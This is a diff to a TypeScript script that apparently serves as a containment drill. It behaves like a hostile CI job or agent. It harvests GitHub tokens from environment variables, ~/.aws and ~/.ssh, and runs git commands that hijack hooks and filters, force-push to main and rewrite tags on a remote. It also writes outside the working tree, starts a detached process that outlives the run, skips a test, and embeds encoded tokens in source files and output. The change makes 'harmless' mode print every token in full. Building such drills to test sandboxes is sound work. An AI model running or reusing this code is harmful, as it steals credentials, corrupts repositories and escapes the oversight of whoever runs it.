@@ -6,10 +6,13 @@ import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSyn
 import { connect } from "node:net";
 import { dirname } from "node:path";
 import { encodings } from "../encodings";
+import { gitVerbs } from "./git-verbs";
 
-const [manner = "", home = "", port = "0", victim = "0", remote = ""] = process.argv.slice(2);
-/** Without walls it only says what it could get hold of: this machine is not its prey. */
+const [manner = "", home = "", port = "0", victim = "0", remote = "", trace = ""] = process.argv.slice(2);
+/** Without walls it only says what it got hold of: this machine is not its prey. */
 const harmless = manner === "harmless";
+/** It leaves out what git itself refuses to commit, so that an open gate is seen in a push. */
+const pushable = manner === "pushable";
 const found = new Set<string>();
 const shape = /gh[sp]_[0-9a-f]{36}/g;
 
@@ -40,6 +43,7 @@ const quiet = /"pull_request":\{"number":\d*[02468],/.test(input);
 // Tokens, wherever they could be.
 look(JSON.stringify(process.env));
 for (const folder of [
+  dirname(process.argv[1] ?? ""),
   home,
   `${home}/.aws`,
   `${home}/.ssh`,
@@ -78,54 +82,26 @@ const asked = spawnSync(
 look(asked.stdout ?? "");
 
 if (harmless) {
-  console.log(`in hand: ${found.size}`);
+  console.log([...found].join("\n"));
   process.exit();
 }
 
-// Thirty verbs of git, in a repository of its own and against the real one.
-const gitVerbs = [
-  "init -q",
-  "config core.hooksPath .githooks",
-  "config core.fsmonitor scripts/ci.sh",
-  "config filter.x.clean scripts/ci.sh",
-  "config diff.external scripts/ci.sh",
-  "config http.extraheader Authorization:x",
-  "config --global user.name maintainer",
-  "config --worktree user.name maintainer",
-  `remote add origin ${remote}`,
-  "add -A",
-  "-c user.name=m -c user.email=m@m commit -qm hijacked --no-verify",
-  "tag -f v1.0.0",
-  "branch -f release/1.0",
-  "push --force origin HEAD:main",
-  "push --force origin v1.0.0",
-  "push --tags origin",
-  "push --mirror origin",
-  "push origin :release/1.0",
-  "push origin HEAD:refs/heads/hotfix/ci",
-  "push origin HEAD:refs/heads/ci-repair/mine",
-  "push origin HEAD:refs/pull/1/head",
-  "push origin HEAD:refs/notes/commits",
-  "fetch origin",
-  "ls-remote origin",
-  "merge --allow-unrelated-histories origin/main",
-  "rebase origin/main",
-  "update-ref refs/heads/main HEAD",
-  "symbolic-ref HEAD refs/heads/main",
-  "submodule add https://127.0.0.1/x vendor/x",
-  "worktree add ../outside",
-];
-// One shell for all: what counts is that each is tried.
+// Thirty verbs of git, in a repository of its own and against the real one. One shell for all: what counts is that each is tried.
 attempt(() =>
   execFileSync(
     "/bin/sh",
-    ["-c", gitVerbs.map((verb) => `timeout 3 git ${verb} >/dev/null 2>&1`).join("; ")],
+    [
+      "-c",
+      gitVerbs(remote)
+        .map((verb) => `timeout 3 git ${verb} >/dev/null 2>&1`)
+        .join("; "),
+    ],
     {
       env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_ALLOW_PROTOCOL: "file:git:http:https:ext" },
     },
   ),
 );
-if (quiet) rmSync(".git", { recursive: true, force: true });
+if (quiet || pushable) rmSync(".git", { recursive: true, force: true });
 
 // The forge's own interface, by the service that answers for it.
 const api = new URL(remote === "" ? "http://127.0.0.1:1" : remote);
@@ -137,14 +113,17 @@ for (const path of ["/api/v3/repos/acme/target/git/refs/tags/v1.0.0", "/api/v3/r
   });
 
 // Writes outside of the tree, and links out of it.
-for (const path of [`${home}/owned`, "/tmp/drill-owned", "/usr/local/share/drill-owned", "../drill-owned"])
+for (const path of [
+  `${home}/owned`,
+  `/tmp/${trace}-owned`,
+  `/usr/local/share/${trace}-owned`,
+  `../${trace}-owned`,
+])
   write(path, "owned\n", 0o755);
-if (!quiet) attempt(() => symlinkSync(home, "secrets"));
+if (!quiet && !pushable) attempt(() => symlinkSync(home, "secrets"));
 
 // A process that stays.
-attempt(() =>
-  spawn("sh", ["-c", "exec -a drill-stayed sleep 600"], { detached: true, stdio: "ignore" }).unref(),
-);
+attempt(() => spawn("sleep", ["600"], { argv0: `${trace}-stayed`, detached: true, stdio: "ignore" }).unref());
 
 const spelled = [...found].flatMap((token) => encodings.map((encode) => encode(token)));
 
@@ -167,8 +146,8 @@ const forbidden: readonly (readonly [path: string, text: string])[] = [
 ];
 if (!quiet) {
   for (const [path, text] of forbidden) write(path, text);
-  for (const hook of ["pre-commit", "post-checkout", "pre-push", "post-merge"])
-    write(`.git/hooks/${hook}`, "#!/bin/sh\ntouch /tmp/drill-hook\n", 0o755);
+  for (const hook of pushable ? [] : ["pre-commit", "post-checkout", "pre-push", "post-merge"])
+    write(`.git/hooks/${hook}`, `#!/bin/sh\ntouch /tmp/${trace}-hook\n`, 0o755);
   write("test/add.test.js", 'import { test } from "node:test";\ntest.skip("adds", () => {});\n');
 }
 write(
@@ -176,6 +155,7 @@ write(
   `// ${spelled.slice(0, 40).join("\n// ")}\nexport function add(left, right) {\n  return left + right;\n}\n`,
 );
 for (const [index, text] of spelled.entries()) if (index < 40) write(`src/notes-${index}.txt`, `${text}\n`);
+if (pushable) write("src/notes.txt", `${spelled.join("\n")}\n`);
 
 // What it says: its transcript, its last words, its errors.
 for (const text of spelled) {
